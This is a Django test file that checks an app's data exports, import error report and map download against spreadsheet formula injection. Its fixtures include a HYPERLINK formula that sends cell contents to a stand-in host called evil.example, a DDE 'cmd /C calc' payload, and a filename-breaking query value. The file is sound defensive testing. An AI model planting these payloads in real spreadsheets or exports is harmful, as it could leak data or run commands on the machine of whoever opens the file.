"""No export carries a formula (OWASP CSV injection): names set through the ordinary edit
form that start with =, +, -, @, a tab or a carriage return reach the comparison CSV and
XLSX, the import error report and the map download as text; figures stay numbers.
(New apps' exports join the hostile-names check in aimaq/testing/hostile.py.)"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from aimaq.accounts.models import Role
from aimaq.indicators.models import ImportRun, Observation
from aimaq.indicators.tests.test_views_fixtures import world_fixture  # noqa: F401
from aimaq.testing.people import user_with_role

pytestmark = pytest.mark.django_db

NAMES = {
    "nura": '=HYPERLINK("http://evil.example/?leak="&A1,"Nura")',
    "osakarovka": "+1+cmd|' /C calc'!A0",
    "abai": "@SUM(1,2)",
}
QUERY = "?t=355200000&t=354800000&t=353200000&i=unemployment&i=income&period=2022"
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formulas(world):
    for key, name in NAMES.items():
        world[key].name_en = name
        world[key].save()
    world["unemployment"].name_en = "-2+3 unemployment"
    world["unemployment"].save()
    # A negative figure: must stay a number, not become text.
    Observation.objects.filter(
        indicator=world["unemployment"], territory=world["abai"], period="2022"
    ).update(value=-0.5)
    return world


def test_comparison_csv_writes_formula_names_as_text_and_figures_as_numbers(client, formulas):
    response = client.get(
        reverse("indicators:compare_export", args=["csv"]) + QUERY, HTTP_ACCEPT_LANGUAGE="en"
    )
    everything = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    rows = everything[[row[:1] for row in everything].index(["KATO"]) :]  # below the header
    assert rows[0][2].startswith("'-2+3 unemployment")
    assert [row[1] for row in rows[1:]] == ["'" + name for name in NAMES.values()]
    cells = [cell for row in everything for cell in row]  # the header's names included
    assert not any(cell.startswith(STARTS) and cell != "-0.5" for cell in cells)
    assert rows[3][2] == "-0.5" and float(rows[1][3]) == 170000  # numbers as numbers


def test_comparison_xlsx_stores_formula_names_as_text_shown_as_typed(client, formulas):
    response = client.get(
        reverse("indicators:compare_export", args=["xlsx"]) + QUERY, HTTP_ACCEPT_LANGUAGE="en"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    top = [cell.value for cell in sheet["A"]].index("KATO") + 1  # the table's header row
    names = [sheet.cell(row=top + r, column=2) for r in (1, 2, 3)]
    assert [cell.value for cell in names] == list(NAMES.values())  # exactly as typed
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)
    abai, nura = sheet.cell(row=top + 3, column=3), sheet.cell(row=top + 1, column=4)
    assert abai.value == -0.5 and abai.data_type == "n"
    assert nura.value == 170000 and nura.data_type == "n"


def test_import_error_report_writes_cells_from_the_file_as_text(
    client, world, immediate_tasks, django_capture_on_commit_callbacks
):
    client.force_login(user_with_role(Role.EDITOR, world["karaganda"]))
    from django.core.files.uploadedfile import SimpleUploadedFile

    rows = (
        "indicator,kato,period,value\n"
        'unemployment,355200000,2022,"=HYPERLINK(""http://evil.example"")"\n'
        "unemployment,@cmd,2022,1.5\n"
        "unemployment,355200000,\t2022,1.5\n"
    )
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("indicators:import"),
            {
                "layout": "auto",
                "match": "auto",
                "sheet": "",
                "indicator": "",
                "file": SimpleUploadedFile("f.csv", rows.encode(), content_type="text/csv"),
            },
        )
    run = ImportRun.objects.get()
    report = client.get(reverse("indicators:import_errors", args=[run.pk]))
    cells = [
        cell for row in csv.reader(io.StringIO(report.content.decode("utf-8-sig"))) for cell in row
    ]
    assert '\'=HYPERLINK("http://evil.example")' in cells and "'@cmd" in cells
    assert not [cell for cell in cells if cell.startswith(STARTS)]


def test_map_download_names_the_units_as_text_of_an_image(client, formulas):
    url = reverse("indicators:map_svg", args=["income"]) + "?parent=350000000&download=1"
    response = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert response["Content-Type"] == "image/svg+xml"
    assert response["Content-Disposition"].startswith("attachment")
    assert "sandbox" in response["Content-Security-Policy"]
    svg = response.content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Nura&quot;)" in svg


def test_a_period_typed_into_the_address_cannot_break_the_download(client, world):
    query = "?t=355200000&i=income&period=" + "20%2F21%22%3B%5B1%5D"  # 20/21";[1]
    for file_format in ("xlsx", "csv"):
        response = client.get(reverse("indicators:compare_export", args=[file_format]) + query)
        assert response.status_code == 200
        assert response["Content-Disposition"] == (
            f'attachment; filename="aimaq-comparison-20-21-1-.{file_format}"'
        )
